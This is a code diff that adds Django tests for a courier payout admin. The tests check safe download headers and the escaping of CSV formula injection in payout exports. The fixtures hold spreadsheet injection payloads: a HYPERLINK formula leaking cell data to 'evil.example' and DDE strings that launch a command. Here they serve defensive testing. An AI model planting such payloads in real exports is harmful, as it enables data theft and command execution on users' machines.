@@ -1,6 +1,8 @@
 """The workforce manager's back-office screens through the Django test client."""
 
+import csv
 import datetime as dt
+import io
 import xml.etree.ElementTree as ET
 
 import pytest
@@ -9,6 +11,7 @@ from django.core import mail
 from django.test import Client
 from django.utils import timezone
 
+from lastmile.accounts.models import User
 from lastmile.accounts.roles import Role
 from tests.factories import StaffFactory
 from tests.hubs.factories import HubFactory
@@ -292,6 +295,83 @@ def test_csv_export_action_downloads_one_line_per_entry(manager):
 
     assert response["Content-Type"].startswith("text/csv")
     assert response.content.decode().count("\n") == 1 + 6
+
+
+def _payout_csv_download(client):
+    return client.post(
+        "/admin/workforce/payoutbatch/",
+        {
+            "action": "export_csv",
+            ACTION_CHECKBOX_NAME: list(PayoutBatch.objects.values_list("pk", flat=True)),
+        },
+    )
+
+
+def test_payout_csv_is_an_uncached_attachment_browsers_do_not_sniff(manager):
+    # given batches with their entries
+    _batches(2)
+
+    # when finance downloads them as CSV
+    response = _payout_csv_download(manager)
+
+    # then the file is a download no browser renders, sniffs or keeps
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith('attachment; filename="payouts-')
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))
+    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
+
+
+def test_courier_names_in_the_payout_csv_never_run_as_spreadsheet_formulas(manager):
+    # given couriers whose names (typed by themselves at sign-up) are formulas
+    _batches(3)
+    names = [
+        ('=HYPERLINK("http://evil.example/?"&A1,"Pay")', ""),
+        ("", "-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
+    ]
+    for batch, (first, last) in zip(PayoutBatch.objects.order_by("pk"), names, strict=True):
+        User.objects.filter(pk=batch.courier.user_id).update(first_name=first, last_name=last)
+    EarningEntry.objects.filter(pk=EarningEntry.objects.order_by("pk")[0].pk).update(
+        description="+49 paid in cash"
+    )
+
+    # when finance downloads the batches as CSV
+    text = _payout_csv_download(manager).content.decode()
+
+    # then every name and description is text to a spreadsheet, not a formula
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {row["courier"] for row in rows} == {
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Pay")',
+        "'-2+3+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    assert "'+49 paid in cash" in {row["description"] for row in rows}
+
+
+def test_sepa_file_downloads_are_uncached_attachments_browsers_do_not_sniff(
+    manager, second_manager
+):
+    # given a batch approved by one manager
+    batch = _closed_batch()
+    _batch_action(manager, "approve_batches", batch)
+
+    # when a colleague exports it, then downloads the kept file again
+    exported = _batch_action(second_manager, "export_sepa", batch, follow=False)
+    exported_body = b"".join(exported.streaming_content)
+    export = PayoutBatch.objects.get(pk=batch.pk).export
+    again = second_manager.get(f"/admin/workforce/payoutexport/{export.pk}/download/")
+    again_body = b"".join(again.streaming_content)
+
+    # then both are the bank file as a download no browser renders, sniffs or keeps
+    assert b"<NbOfTxs>1</NbOfTxs>" in exported_body
+    assert exported_body == again_body == export.file.open("rb").read()
+    for response in (exported, again):
+        assert response.status_code == 200
+        assert response["Content-Disposition"] == f'attachment; filename="{export.message_id}.xml"'
+        assert response["X-Content-Type-Options"] == "nosniff"
+        assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))
+        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
 
 
 def test_correct_action_appends_a_correction(manager):
